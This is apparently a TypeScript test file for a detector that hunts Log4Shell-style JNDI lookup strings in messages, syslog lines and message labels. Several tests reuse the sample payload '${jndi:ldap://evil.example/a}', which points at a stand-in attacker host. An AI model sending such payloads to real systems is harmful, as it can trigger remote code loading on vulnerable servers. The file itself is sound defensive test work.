import { expect, test } from 'vitest'
import { bytesOf, huntDoors, huntedAround } from '../../test/kit/hunting.ts'
import type { AttackFinding, Gap } from '../core/index.ts'
import { type Message, MessageHunt, type MessageLabel, RecentlyRead } from './index.ts'

const attack = '${jndi:ldap://evil.example/a}'

function told(messages: readonly (Partial<Message> & { text: string })[], labels: readonly MessageLabel[] = []) {
  const findings: AttackFinding[] = []
  const gaps: Gap[] = []
  const sink = { finding: (each: AttackFinding) => findings.push(each), gap: (each: Gap) => gaps.push(each) }
  const hunt = new MessageHunt(huntDoors, sink, new RecentlyRead())
  for (const { text, ...rest } of messages) {
    const message = { source: 'peer', identity: null, bytes: bytesOf(text), cut: false, when: null, ...rest }
    hunt.read(message, labels, 'topic')
  }
  return { findings, gaps }
}

test('a message is read by the format that it is written in', () => {
  const { findings } = told([
    { text: 'nothing' },
    { text: `<34>1 2021-12-12T04:25:41Z web1 app - - - login of ${attack}` },
  ])

  expect(findings).toMatchObject([
    {
      at: { source: 'peer', line: null },
      format: 'syslog-rfc5424',
      when: Date.UTC(2021, 11, 12, 4, 25, 41),
      lookup: { host: 'evil.example' },
    },
  ])
})

test('what one message leaves open is not closed by the next', () => {
  const { findings } = told([{ text: 'a ${jndi:ldap://one.example/a' }, { text: 'b}' }])

  expect(findings.map(({ traits }) => traits)).toEqual([['truncated']])
})

test('the same message come again has the same id, another has another', () => {
  const { findings } = told([{ text: `x ${attack}` }, { text: `y ${attack}` }, { text: `x ${attack}` }])
  const [first, second, third] = findings.map(({ id }) => id)

  expect(first).not.toBe(second)
  expect(third).toBe(first)
})

test('the time of whoever carried it counts where the message has none', () => {
  const { findings } = told([
    { text: `x ${attack}`, when: huntedAround },
    { text: `<34>1 2021-12-12T04:25:41Z web1 app - - - ${attack}`, when: huntedAround },
  ])

  expect(findings.map(({ when }) => when)).toEqual([huntedAround, Date.UTC(2021, 11, 12, 4, 25, 41)])
})

test('what came along with a message is read too, and named', () => {
  const { findings } = told([{ text: 'nothing' }], [{ name: 'header trace', bytes: bytesOf(attack) }])

  expect(findings).toMatchObject([{ field: 'header trace', format: 'topic', lookup: { host: 'evil.example' } }])
})

test.each([0, 65_500, 65_530, 70_000, 131_000, 1_000_000])('an attack %i bytes into a large message is found', (at) => {
  const { findings } = told([{ text: `${'x'.repeat(at)}${attack}${'y'.repeat(1_200_000 - at)}` }])

  expect(findings.map(({ lookup }) => lookup.host)).toEqual(['evil.example'])
})

test('a large message of many lines is read line by line', () => {
  const { findings } = told([
    { text: `${'nothing\n'.repeat(10_000)}${attack}\n${'nothing\n'.repeat(10_000)}${attack}` },
  ])

  expect(findings.map(({ at }) => at.line)).toEqual([10_001, 20_002])
})
